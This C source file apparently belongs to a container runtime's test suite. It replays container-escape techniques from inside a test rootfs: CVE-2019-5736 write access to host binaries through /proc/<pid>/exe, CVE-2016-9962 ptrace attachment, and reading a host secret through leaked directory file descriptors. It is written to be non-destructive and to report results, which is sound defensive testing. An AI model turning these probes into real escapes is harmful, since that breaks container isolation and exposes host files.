/* attack: the in-container half of the attack suite's replays. Static, so it runs in the busybox
 * test rootfs (copied in by the test). Each subcommand prints its findings as `key=value` lines
 * and exits 0; the test decides what is a success of the attack. It never modifies a file: a
 * write is proven by writing back the byte that is already there.
 *
 *   attack exe-watch REPORT SECONDS   CVE-2019-5736: every millisecond, grab /proc/<pid>/exe of
 *                                     each new process (O_PATH) and try to reopen it for writing
 *                                     and write to it, also after the process is gone. Writes
 *                                     `seen=N write_opens=N writes=N` to REPORT at the end.
 *   attack ptrace PID                 CVE-2016-9962: PTRACE_ATTACH (detaches again on success).
 *   attack fds PID [SECRET]           every fd of PID: its target, whether it opens and is a
 *                                     directory; through a directory fd or a procfs fd, tries to
 *                                     read the host file SECRET (via fd/N/SECRET and
 *                                     fd/N/1/root/SECRET).
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *errno_name(int err)
{
    static char buf[32];
    const char *name = strerrorname_np(err);
    if (name)
        return name;
    snprintf(buf, sizeof buf, "E%d", err);
    return buf;
}

#define MAX_WATCHED 4096

struct watched {
    int pid;
    int fd;
};

/* Proves writability without changing the file: write back byte 0. */
static int try_write(int fd)
{
    unsigned char byte;
    if (pread(fd, &byte, 1, 0) != 1)
        byte = 0x7f; /* an ELF file starts with 0x7f; an empty file would grow by one byte */
    return pwrite(fd, &byte, 1, 0) == 1;
}

static int cmd_exe_watch(const char *report, const char *seconds)
{
    static struct watched w[MAX_WATCHED];
    size_t n = 0;
    long seen = 0, write_opens = 0, writes = 0;
    int self = getpid();
    time_t end = time(NULL) + atoi(seconds);
    const struct timespec tick = {0, 1000 * 1000};
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) != NULL) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self)
                continue;
            size_t i;
            for (i = 0; i < n && w[i].pid != pid; i++)
                ;
            if (i < n || n == MAX_WATCHED)
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue;
            w[n].pid = pid;
            w[n].fd = fd;
            n++;
            seen++;
        }
        if (d)
            closedir(d);
        for (size_t i = 0; i < n; i++) {
            if (w[i].fd < 0)
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", w[i].fd);
            int wfd = open(path, O_WRONLY | O_CLOEXEC);
            if (wfd < 0)
                continue;
            write_opens++;
            int rfd = open(path, O_RDWR | O_CLOEXEC);
            if (rfd >= 0) {
                writes += try_write(rfd);
                close(rfd);
            }
            close(wfd);
            close(w[i].fd);
            w[i].fd = -1;
        }
        nanosleep(&tick, NULL);
    }
    FILE *f = fopen(report, "we");
    if (!f) {
        printf("error=%s\n", errno_name(errno));
        return 1;
    }
    fprintf(f, "seen=%ld write_opens=%ld writes=%ld\n", seen, write_opens, writes);
    return fclose(f) == 0 ? 0 : 1;
}

static int cmd_ptrace(const char *pidstr)
{
    int pid = atoi(pidstr);
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) != 0) {
        printf("ptrace=error=%s\n", errno_name(errno));
        return 0;
    }
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    printf("ptrace=ok\n");
    return 0;
}

static void try_secret(const char *fmt, const char *fdpath, const char *secret)
{
    char path[PATH_MAX + 128];
    snprintf(path, sizeof path, fmt, fdpath, secret);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    char buf[256];
    ssize_t len = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (len < 0)
        return;
    buf[len] = '\0';
    buf[strcspn(buf, "\n")] = '\0';
    printf("secret=%s via %s\n", buf, path);
}

static int cmd_fds(const char *pidstr, const char *secret)
{
    char dirpath[64];
    snprintf(dirpath, sizeof dirpath, "/proc/%s/fd", pidstr);
    DIR *d = opendir(dirpath);
    if (!d) {
        printf("fds=error=%s\n", errno_name(errno));
        return 0;
    }
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        char fdpath[PATH_MAX], target[PATH_MAX];
        snprintf(fdpath, sizeof fdpath, "%s/%s", dirpath, e->d_name);
        ssize_t len = readlink(fdpath, target, sizeof target - 1);
        if (len < 0)
            snprintf(target, sizeof target, "error=%s", errno_name(errno));
        else
            target[len] = '\0';
        struct stat st;
        const char *kind = "other";
        if (stat(fdpath, &st) != 0)
            kind = errno_name(errno);
        else if (S_ISDIR(st.st_mode))
            kind = "dir";
        else if (S_ISREG(st.st_mode))
            kind = "file";
        printf("fd=%s %s %s\n", e->d_name, kind, target);
        if (secret && strcmp(kind, "dir") == 0) {
            try_secret("%s/%s", fdpath, secret);
            try_secret("%s/1/root/%s", fdpath, secret);
        }
    }
    closedir(d);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 4 && strcmp(argv[1], "exe-watch") == 0)
        return cmd_exe_watch(argv[2], argv[3]);
    if (argc == 3 && strcmp(argv[1], "ptrace") == 0)
        return cmd_ptrace(argv[2]);
    if ((argc == 3 || argc == 4) && strcmp(argv[1], "fds") == 0)
        return cmd_fds(argv[2], argc == 4 ? argv[3] : NULL);
    fputs("usage: attack exe-watch REPORT SECONDS | ptrace PID | fds PID [SECRET]\n", stderr);
    return 2;
}
